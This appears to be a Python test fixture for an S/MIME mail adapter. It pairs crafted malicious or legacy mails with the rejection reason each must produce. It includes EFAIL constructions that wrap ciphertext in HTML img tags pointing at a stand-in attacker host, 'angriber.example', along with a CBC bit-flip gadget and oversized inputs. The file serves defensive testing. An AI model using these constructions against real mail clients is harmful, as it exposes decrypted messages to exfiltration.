"""Mails that are rejected, each with the reason that must be given: what attackers and old systems send."""

from __future__ import annotations

import base64
from collections.abc import Callable

from adapters.secure_mail import Reason
from adapters.secure_mail.asn1 import cms
from deployments.openssl_mail import openssl, openssl_encrypt
from tests.adapters.mail.workshop import (
    CENTRE,
    HELLO,
    OWN,
    Workshop,
    entity,
    multipart,
    ordinary,
    outer,
)

Build = Callable[[Workshop], bytes]
_BASE64 = "Content-Transfer-Encoding: base64"
_ENVELOPED = 'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"'


def _der_mail(der: bytes) -> bytes:
    return outer() + entity(_ENVELOPED, base64.encodebytes(der), _BASE64)


def _encrypted_der(shop: Workshop, cipher: str = "aes-256-cbc") -> bytes:
    options = (f"-{cipher}", "-outform", "DER", "-recip", shop.certificate("own"))
    return openssl("cms", "-encrypt", *options, stdin=shop.sign(HELLO))


def _flipped(shop: Workshop, cipher: str, from_end: int) -> bytes:
    """One bit changed, counted from the end of the CMS object."""
    der = bytearray(_encrypted_der(shop, cipher))
    der[-from_end] ^= 1
    return _der_mail(bytes(der))


def _text_flipped(shop: Workshop) -> bytes:
    """EFAIL, the gadget form: without integrity, CBC lets a stranger change what the text becomes."""
    signed = shop.sign(entity("text/plain", "Goddag. " * 40 + "Det er kommunen. " + "Farvel. " * 40))
    options = ("-aes-256-cbc", "-outform", "DER", "-binary", "-recip", shop.certificate("own"))
    der = bytearray(openssl("cms", "-encrypt", *options, stdin=signed))
    padded = len(signed) // 16 * 16 + 16
    der[-padded + signed.index(b"kommunen")] ^= 1
    return _der_mail(bytes(der))


def _wrapped_in_3des(shop: Workshop) -> bytes:
    return shop.protect(recipient="own-ec", encrypt=("-des3-wrap",))


def _exfiltrating_by_one_side(shop: Workshop) -> bytes:
    before = entity("text/html", '<img src="http://angriber.example/')
    return outer() + multipart("related", before, shop.protect())


def _stolen_ciphertext(shop: Workshop) -> bytes:
    """An outer signature by a known partner around an encrypted mail that nobody signed inside."""
    return outer() + shop.sign(shop.encrypt(HELLO))


def _signed_for_another(shop: Workshop) -> bytes:
    """Signed by a partner for somebody else, then encrypted to us by whoever received it."""
    inner = f"From: {CENTRE}\r\nTo: naboen@anden.example\r\nSubject: Til naboen\r\n".encode()
    return shop.wrap(inner + HELLO)


def _exfiltrating(shop: Workshop) -> bytes:
    """EFAIL, the direct form: the ciphertext between two halves of a picture's address."""
    before = entity("text/html", '<img src="http://angriber.example/')
    after = entity("text/html", '">')
    return outer() + multipart("mixed", before, shop.encrypt(shop.sign(HELLO)), after)


def _encrypted_in_a_forward(shop: Workshop) -> bytes:
    return outer() + multipart("mixed", HELLO, entity("message/rfc822", shop.protect()))


def _footer_beside(shop: Workshop) -> bytes:
    footer = entity("text/plain", "Sendt fra en maillingliste.\r\n")
    return outer() + shop.encrypt(multipart("mixed", shop.sign(HELLO), footer, boundary="yderst"))


def _three_parts(shop: Workshop) -> bytes:
    signed = shop.sign(HELLO)
    start = signed.index(b"boundary=") + len(b"boundary=")
    boundary = signed[start:].partition(b"\n")[0].strip(b'"\r').decode()
    extra = b"\r\n--" + boundary.encode() + b"\r\n" + HELLO + b"\r\n--" + boundary.encode() + b"--"
    end = signed.rindex(b"--" + boundary.encode() + b"--")
    return outer() + shop.encrypt(signed[:end].rstrip() + extra + b"\r\n")


def _footer_on_clear_mail(shop: Workshop) -> bytes:
    return outer() + multipart("mixed", shop.sign(HELLO), HELLO, boundary="yderst")


def _compressed(_shop: Workshop) -> bytes:
    data = {
        "version": "v0",
        "compression_algorithm": {"algorithm": "zlib"},
        "encap_content_info": {"content_type": "data", "content": b"x" * 100},
    }
    info = cms.ContentInfo({"content_type": "compressed_data", "content": cms.CompressedData(data)})
    return _der_mail(info.dump())


def _endless_recipients(shop: Workshop) -> bytes:
    info = cms.ContentInfo.load(_encrypted_der(shop))
    recipients = info["content"]["recipient_infos"]
    for _ in range(4000):
        recipients.append(recipients[0])
    return _der_mail(info.dump(force=True))


def _nested(levels: int) -> bytes:
    content = HELLO
    for level in range(levels):
        content = multipart("mixed", content, boundary=f"graense-{level}-")
    return content


def _rc2(shop: Workshop) -> bytes:
    legacy = ("-provider", "legacy", "-provider", "default")
    return outer() + openssl_encrypt(shop.sign(HELLO), shop.certificate("own"), "rc2-128", legacy)


def _pgp(_shop: Workshop) -> bytes:
    parts = (entity("application/pgp-encrypted", "Version: 1\r\n"), entity("application/octet-stream", "x"))
    return outer() + multipart("encrypted", *parts, parameters='; protocol="application/pgp-encrypted"')


REJECTED: dict[str, tuple[Reason, Build]] = {
    "beyond 40 MB": (Reason.TOO_LARGE, lambda _: outer() + b"x" * 40_000_000),
    "a header without end": (Reason.HEADER_TOO_LARGE, lambda _: b"Subject: " + b"x" * 200_000 + b"\r\n\r\n"),
    "encoded words without end": (
        Reason.HEADER_TOO_LARGE,
        lambda _: b"Subject:" + b" =?utf-8?q?x?=\r\n" * 2000,
    ),
    "a thousand parts": (Reason.TOO_MANY_PARTS, lambda shop: shop.wrap(multipart("mixed", *[HELLO] * 1000))),
    "nested too deep": (Reason.TOO_DEEP, lambda shop: shop.wrap(_nested(12))),
    "plain": (Reason.NO_SMIME, lambda _: ordinary()),
    "no mail at all": (Reason.NO_SMIME, lambda _: b""),
    "broken parts, not protected": (
        Reason.NO_SMIME,
        lambda _: outer() + multipart("mixed", HELLO).replace(b"--graense--", b""),
    ),
    "broken parts, encrypted, not signed": (
        Reason.MALFORMED_CMS,
        lambda shop: outer() + shop.encrypt(multipart("mixed", HELLO).replace(b"--graense--", b"")),
    ),
    "a field without end": (Reason.HEADER_TOO_LARGE, lambda _: outer(CENTRE, "To: " + "x, " * 20_000)),
    "a list of recipients without end": (Reason.MALFORMED_CMS, _endless_recipients),
    "openpgp": (Reason.OPENPGP, _pgp),
    "openpgp in the text": (
        Reason.OPENPGP,
        lambda _: outer() + entity("text/plain", "-----BEGIN PGP MESSAGE-----\r\n"),
    ),
    "openpgp inside": (Reason.OPENPGP, lambda shop: outer() + shop.encrypt(_pgp(shop).split(b"\r\n", 5)[5])),
    "garbage instead of cms": (Reason.MALFORMED_CMS, lambda _: _der_mail(b"noget helt andet")),
    "no base64": (Reason.MALFORMED_CMS, lambda _: outer() + entity(_ENVELOPED, "!!!", _BASE64)),
    "truncated": (Reason.MALFORMED_CMS, lambda shop: _der_mail(_encrypted_der(shop)[:-100])),
    "something after it": (Reason.MALFORMED_CMS, lambda shop: _der_mail(_encrypted_der(shop) + b"\x00")),
    "compressed": (Reason.COMPRESSED, _compressed),
    "for somebody else's key": (Reason.NOT_FOR_OUR_KEYS, lambda shop: shop.protect(recipient="stranger")),
    "encrypted, not signed": (Reason.NOT_SIGNED, lambda shop: outer() + shop.encrypt(HELLO)),
    "outer signature over stolen ciphertext": (Reason.NOT_SIGNED, _stolen_ciphertext),
    "ciphertext between pictures": (Reason.ENCRYPTED_PART_NOT_ROOT, _exfiltrating),
    "encrypted mail in a forward": (Reason.ENCRYPTED_PART_NOT_ROOT, _encrypted_in_a_forward),
    "encrypted html around the ciphertext": (Reason.ENCRYPTED_PART_NOT_ROOT, _exfiltrating_by_one_side),
    "3des in the key's wrapping": (Reason.WEAK_ENCRYPTION, _wrapped_in_3des),
    "3des": (Reason.WEAK_ENCRYPTION, lambda shop: shop.protect(cipher="des-ede3-cbc")),
    "rc2": (Reason.WEAK_ENCRYPTION, _rc2),
    "last block changed": (Reason.UNDECRYPTABLE, lambda shop: _flipped(shop, "aes-256-cbc", 17)),
    "ciphertext changed": (Reason.BAD_SIGNATURE, _text_flipped),
    "gcm ciphertext changed": (Reason.UNDECRYPTABLE, lambda shop: _flipped(shop, "aes-256-gcm", 900)),
    "gcm tag changed": (Reason.UNDECRYPTABLE, lambda shop: _flipped(shop, "aes-256-gcm", 1)),
    "signed for somebody else": (Reason.ADDRESSED_ELSEWHERE, _signed_for_another),
    "unsigned footer inside": (Reason.UNSIGNED_CONTENT, _footer_beside),
    "third part": (Reason.UNSIGNED_CONTENT, _three_parts),
    "unsigned footer, not encrypted": (Reason.UNSIGNED_CONTENT, _footer_on_clear_mail),
    "no own address among protected recipients": (
        Reason.ADDRESSED_ELSEWHERE,
        lambda shop: shop.wrap(outer().replace(OWN.encode(), b"anden@leverandoer.example") + HELLO),
    ),
}
